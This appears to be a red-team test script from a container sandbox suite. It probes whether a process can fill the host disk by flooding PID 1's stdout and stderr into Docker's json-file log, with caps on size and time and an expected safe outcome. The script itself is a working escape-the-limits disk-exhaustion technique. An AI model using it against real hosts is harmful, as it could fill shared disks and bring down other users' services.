# REDTEAM-ID: log_01_pid1_stdout_flood
# CATEGORY: resource-exhaustion / host-disk
# ATTACK: Write to the HOST disk through the container log. PID 1 of a Docker container (here
#   docker-init running as the same uid as the script) has stdout/stderr connected to the engine,
#   and /proc/1/fd/1 is writable by any process of the same uid. With the default json-file log
#   driver every byte lands in /var/lib/docker/containers/<id>/<id>-json.log on the host, outside
#   every disk and memory limit of the sandbox. Writes 1 MiB chunks to /proc/1/fd/1 and
#   /proc/1/fd/2 until an error, 512 MiB or 15 s.
# EXPECTED SAFE OUTCOME: the container has no log (log driver none) or a bounded one; host free
#   disk does not drop; the run ends normally.
# HARNESS CHECK: H_HOST_RESOURCES; the container's LogConfig.Type is none (sandbox config check).
# SAFETY BOUNDS: <= 512 MiB, <= 15 s.
# EXPECT-JSON: {"self_verdict": ["INFO"], "may_be_killed": true, "max_wall_s": 40, "host_checks": ["H_HOST_RESOURCES"]}
import json
import os
import time

RID = "log_01_pid1_stdout_flood"
CAP = 512 << 20


def main():
    chunk = b"REDTEAM-LOG-FLOOD " + b"L" * ((1 << 20) - 19) + b"\n"
    written, errors, t0 = {}, {}, time.time()
    for target in ("/proc/1/fd/1", "/proc/1/fd/2"):
        written[target] = 0
        try:
            fd = os.open(target, os.O_WRONLY | os.O_NONBLOCK)
        except OSError as e:
            errors[target] = f"open: {e.strerror}"
            continue
        try:
            while sum(written.values()) < CAP and time.time() - t0 < 15:
                try:
                    written[target] += os.write(fd, chunk)
                except BlockingIOError:
                    time.sleep(0.01)
        except OSError as e:
            errors[target] = f"write: {e.strerror}"
        finally:
            os.close(fd)
    print(
        "REDTEAM_RESULT "
        + json.dumps(
            {
                "id": RID,
                "verdict": "INFO",
                "summary": f"wrote {sum(written.values()) >> 20} MiB into PID 1's stdio",
                "details": {"written": written, "errors": errors},
            }
        ),
        flush=True,
    )


if __name__ == "__main__":
    main()
